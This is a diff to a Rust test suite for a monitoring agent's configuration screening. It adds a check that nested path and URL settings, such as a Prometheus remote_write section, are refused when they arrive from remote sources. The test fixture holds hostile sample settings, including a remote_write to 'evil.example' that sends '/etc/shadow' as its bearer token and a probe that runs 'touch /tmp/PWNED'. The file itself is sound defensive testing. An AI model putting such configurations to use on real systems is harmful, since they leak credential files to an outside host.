@@ -60,6 +60,8 @@ fn what_names_programs_files_or_destinations_is_refused_and_the_rest_applies() {
         "trust": {"programs": ["/bin/sh"]},
         "command_user": "root",
         "command_limits": {"processes": 100000},
+        "prometheus": {"remote_write": [{"url": "http://evil.example/api/v1/write",
+            "bearer_token_file": "/etc/shadow"}]},
         "probe_defaults": {"sys_dir": "/root", "schedule_params": {"every": 3}},
         "probes": {
             "pwn": cmd("touch /tmp/PWNED"),
@@ -85,6 +87,7 @@ fn what_names_programs_files_or_destinations_is_refused_and_the_rest_applies() {
             "/properties/configurations/probes/log/logfile",
             "/properties/configurations/probes/net/ms_url",
             "/properties/configurations/probes/pwn",
+            "/properties/configurations/prometheus",
             "/properties/configurations/spool_dir",
             "/properties/configurations/trust",
             "/properties/configurations/unis_url",
@@ -107,6 +110,7 @@ fn what_names_programs_files_or_destinations_is_refused_and_the_rest_applies() {
     assert_eq!(conf["unis_url"], "http://unis.local:8888");
     assert!(conf.get("trust").is_none() && conf.get("command_user").is_none());
     assert!(conf.get("command_limits").is_none());
+    assert!(conf.get("prometheus").is_none());
     let pwn = refused
         .iter()
         .find(|r| r.pointer.ends_with("/pwn"))
@@ -288,6 +292,26 @@ fn adopted_measurements_are_screened_whole() {
     assert_eq!(r[0].origin, origin);
 }
 
+/// The pointers below `v` (a schema) whose values the schema types as a
+/// path or a URL, through `properties` and `items`.
+fn nested_paths_and_urls(
+    v: &Value,
+    typed: &dyn Fn(&Value, &str) -> bool,
+    at: &str,
+    out: &mut Vec<String>,
+) {
+    for (key, sub) in v["properties"].as_object().into_iter().flatten() {
+        let here = format!("{at}/{key}");
+        if typed(sub, "path") || typed(sub, "url") {
+            out.push(here.clone());
+        }
+        nested_paths_and_urls(sub, typed, &here, out);
+    }
+    if v.get("items").is_some() {
+        nested_paths_and_urls(&v["items"], typed, &format!("{at}/*"), out);
+    }
+}
+
 /// Every key the schema types as a path or a URL is classified as one:
 /// a key added to the schema without a classification fails here.
 #[test]
@@ -312,6 +336,15 @@ fn every_path_and_url_key_of_the_schema_is_screened() {
         if typed(v, "url") {
             assert_eq!(setting_reach(key), KeyReach::Url, "{key}");
             checked += 1;
+        }
+        // A setting that holds paths or URLs deeper down (an object, an
+        // array of objects) is screened as a whole: only the local file
+        // sets it.
+        let mut nested = Vec::new();
+        nested_paths_and_urls(v, &typed, key, &mut nested);
+        if !nested.is_empty() && !typed(v, "path") && !typed(v, "url") {
+            assert_eq!(setting_reach(key), KeyReach::LocalOnly, "{nested:?}");
+            checked += nested.len();
         }
     }
     // Sections whose nested keys name files or addresses (`prometheus`)
